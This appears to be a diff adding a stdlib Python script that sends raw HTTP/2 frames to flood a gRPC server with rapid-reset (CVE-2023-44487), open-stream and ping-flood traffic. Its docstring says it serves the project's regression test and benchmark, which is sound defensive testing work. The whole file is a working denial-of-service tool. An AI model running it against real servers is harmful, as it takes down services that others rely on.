@@ -1,0 +1,162 @@
+#!/usr/bin/env python3
+"""HTTP/2 abuse against a gRPC server, from raw frames (stdlib only; no HTTP/2 library needed).
+
+Attacks, each over --connections connections for --seconds seconds:
+  rapid_reset  HEADERS for a gRPC method, then RST_STREAM(CANCEL) at once, in a loop, without a
+               token (CVE-2023-44487, the attack gRPC before 1.57 has no defence against)
+  open_streams HEADERS that are never ended nor reset: as many open streams as the server allows
+  ping_flood   PING frames in a loop
+
+The attacker answers the server's SETTINGS and PINGs as a real client would, so that the server
+cannot tell it from one by its manners. Prints one JSON line: frames sent, connections opened,
+and how connections ended (closed by the server, GOAWAY received). Used by the regression test
+(tests/integration/test_rdzv_http2_abuse.py) and by the benchmark (bench/rdzv_abuse.py).
+"""
+import argparse
+import json
+import socket
+import struct
+import sys
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK = 0x4, 0x1
+CANCEL = 0x8
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def _literal(name, value):
+    # HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2).
+    def string(s):
+        data = s.encode()
+        assert len(data) < 127
+        return bytes([len(data)]) + data
+    return b"\x00" + string(name) + string(value)
+
+
+def grpc_headers(path):
+    return b"".join(_literal(n, v) for n, v in (
+        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "ddprun"),
+        ("content-type", "application/grpc"), ("te", "trailers")))
+
+
+class Connection:
+    def __init__(self, host, port, stats, source=None):
+        self.sock = socket.create_connection((host, port), timeout=5,
+                                             source_address=(source, 0) if source else None)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.lock = threading.Lock()
+        self.stats = stats
+        self.closed = False
+        self.next_stream = 1
+        self.send(PREFACE + frame(SETTINGS, 0, 0))
+        threading.Thread(target=self._read, daemon=True).start()
+
+    def send(self, data):
+        with self.lock:
+            self.sock.sendall(data)
+
+    def _read(self):
+        buffer = b""
+        try:
+            while True:
+                chunk = self.sock.recv(65536)
+                if not chunk:
+                    break
+                buffer += chunk
+                while len(buffer) >= 9:
+                    length = int.from_bytes(buffer[:3], "big")
+                    if len(buffer) < 9 + length:
+                        break
+                    kind, flags = buffer[3], buffer[4]
+                    payload = buffer[9:9 + length]
+                    buffer = buffer[9 + length:]
+                    if kind == SETTINGS and not flags & ACK:
+                        self.send(frame(SETTINGS, ACK, 0))
+                    elif kind == PING and not flags & ACK:
+                        self.send(frame(PING, ACK, 0, payload))
+                    elif kind == GOAWAY:
+                        self.stats["goaway"] += 1
+        except OSError:
+            pass
+        self.closed = True
+        self.stats["closed_by_server"] += 1
+
+    def batch(self, attack, block, count):
+        out = []
+        for _ in range(count):
+            if attack == "ping_flood":
+                out.append(frame(PING, 0, 0, b"\0" * 8))
+                continue
+            stream = self.next_stream
+            self.next_stream += 2
+            out.append(frame(HEADERS, END_HEADERS, stream, block))
+            if attack == "rapid_reset":
+                out.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+        return b"".join(out)
+
+
+def run(host, port, attack, connections, seconds, path, source=None, batch=200):
+    stats = {"attack": attack, "frames": 0, "connections": 0, "connect_errors": 0, "closed_by_server": 0,
+             "goaway": 0, "send_errors": 0}
+    block = grpc_headers(path)
+    deadline = time.monotonic() + seconds
+    lock = threading.Lock()
+
+    def attacker():
+        conn = None
+        while time.monotonic() < deadline:
+            if conn is None or conn.closed:
+                try:
+                    conn = Connection(host, port, stats, source)
+                    with lock:
+                        stats["connections"] += 1
+                except OSError:
+                    with lock:
+                        stats["connect_errors"] += 1
+                    time.sleep(0.05)
+                    continue
+            if attack == "open_streams" and conn.next_stream > 2 * 100000:
+                time.sleep(0.05)
+                continue
+            try:
+                conn.send(conn.batch(attack, block, batch))
+                with lock:
+                    stats["frames"] += batch * (2 if attack == "rapid_reset" else 1)
+            except OSError:
+                with lock:
+                    stats["send_errors"] += 1
+                conn.closed = True
+        if conn is not None:
+            conn.sock.close()
+
+    threads = [threading.Thread(target=attacker, daemon=True) for _ in range(connections)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(seconds + 10)
+    return stats
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("--host", default="127.0.0.1")
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--attack", choices=["rapid_reset", "open_streams", "ping_flood"], default="rapid_reset")
+    p.add_argument("--connections", type=int, default=8)
+    p.add_argument("--seconds", type=float, default=10)
+    p.add_argument("--source", help="local address to connect from (127.0.0.2: another loopback address)")
+    p.add_argument("--path", default="/ddprun.v1.Rendezvous/Session")
+    a = p.parse_args()
+    if not 0 < a.seconds <= 3600 or not 0 < a.connections <= 1000:
+        sys.exit("http2_attack: --seconds must be in (0, 3600] and --connections in [1, 1000]")
+    print(json.dumps(run(a.host, a.port, a.attack, a.connections, a.seconds, a.path, a.source)), flush=True)
+
+
+if __name__ == "__main__":
+    main()
